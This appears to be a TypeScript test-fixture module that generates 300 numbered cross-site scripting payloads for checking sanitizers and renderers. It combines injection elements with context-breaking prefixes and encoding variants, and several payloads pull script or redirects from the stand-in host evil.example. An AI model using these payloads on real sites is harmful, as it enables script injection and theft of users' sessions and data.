/** Three hundred ways to get a script into a page, each with a number of its own: `xss(17)` is called when number 17 runs. */
const elements = [
  '<script>xss(N)</script>',
  '<ScRiPt >xss(N)</sCrIpT >',
  '<script src=//evil.example/N></script>',
  '<scr<script>ipt>xss(N)</scr</script>ipt>',
  '<img src=x onerror=xss(N)>',
  '<img/src=x/onerror=xss(N)//',
  '<svg onload=xss(N)>',
  '<svg><script>xss(N)</script></svg>',
  '<svg><animate onbegin=xss(N) attributeName=x dur=1s>',
  '<body onload=xss(N)>',
  '<iframe srcdoc="<script>parent.xss(N)</script>"></iframe>',
  '<iframe src="javascript:parent.xss(N)"></iframe>',
  '<object data="javascript:xss(N)"></object>',
  '<a href="javascript:xss(N)">x</a>',
  '<details open ontoggle=xss(N)>',
  '<input autofocus onfocus=xss(N)>',
  '<video><source onerror=xss(N)></video>',
  '<style>@import "//evil.example/N"</style>',
  '<link rel=stylesheet href=//evil.example/N>',
  '<base href=//evil.example/N/>',
  '<meta http-equiv=refresh content="0;url=//evil.example/N">',
  '<form action="javascript:xss(N)"><button autofocus>x</button></form>',
  '<math><mtext><img src=x onerror=xss(N)></mtext></math>',
  '<template><img src=x onerror=xss(N)></template>',
];

/** What stands before it ends the place that it was put into: an attribute, a field, a comment, a script. */
const ways = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</script>',
  '</style>',
  '-->',
  '</option></select>',
  ']]>',
  '\\">',
];

const others = [
  '" autofocus onfocus=xss(N) x="',
  "' autofocus onfocus=xss(N) x='",
  'javascript:xss(N)',
  'JaVaScRiPt:xss(N)',
  'java\tscript:xss(N)',
  ' javascript:xss(N)',
  'data:text/html,<script>xss(N)</script>',
  'vbscript:xss(N)',
  '//evil.example/N',
  '&lt;img src=x onerror=xss(N)&gt;',
  '&#60;img src=x onerror=xss(N)&#62;',
  '&amp;lt;script&amp;gt;xss(N)',
  '%3Cimg src=x onerror=xss(N)%3E',
  '+ADw-script+AD4-xss(N)+ADw-/script+AD4-',
  '\\u003cimg src=x onerror=xss(N)\\u003e',
  '\\x3cscript\\x3exss(N)\\x3c/script\\x3e',
  '＜img src=x onerror=xss(N)＞',
  '<\u00a0img src=x onerror=xss(N)>',
  '${xss(N)}',
  '{{constructor.constructor("xss(N)")()}}',
  "';xss(N);//",
  '";xss(N);//',
  '`;xss(N);`',
  '*/xss(N)/*',
  '\u2028xss(N)\u2029',
  '<!--><img src=x onerror=xss(N)>-->',
  '<![CDATA[<img src=x onerror=xss(N)>]]>',
  '<?xml version="1.0"?><x onclick=xss(N)>',
  '<!DOCTYPE x [<!ENTITY y "xss(N)">]>&y;',
  '[x](javascript:xss(N))',
  '![x](x"onerror="xss(N))',
  '<x onclick=xss(N) tabindex=1 autofocus id=x>#x',
  '<noscript><p title="</noscript><img src=x onerror=xss(N)>">',
  '<select><style></select><img src=x onerror=xss(N)></style>',
  '\u202e<img src=x onerror=xss(N)>',
  '=HYPERLINK("javascript:xss(N)")',
];

const forms = [...elements.flatMap((element) => ways.map((way) => way + element)), ...others];

export const payloads: readonly string[] = forms.map((form, number) => form.replaceAll('N', String(number + 1)));

/** All of them as one text, for places that show a text whole. */
export const allPayloads = payloads.join('\n');

/** A few at a time, for places that cut what they show. */
export function chunks(size: number): string[] {
  return Array.from({ length: Math.ceil(payloads.length / size) }, (_, at) =>
    payloads.slice(at * size, (at + 1) * size).join(' '),
  );
}
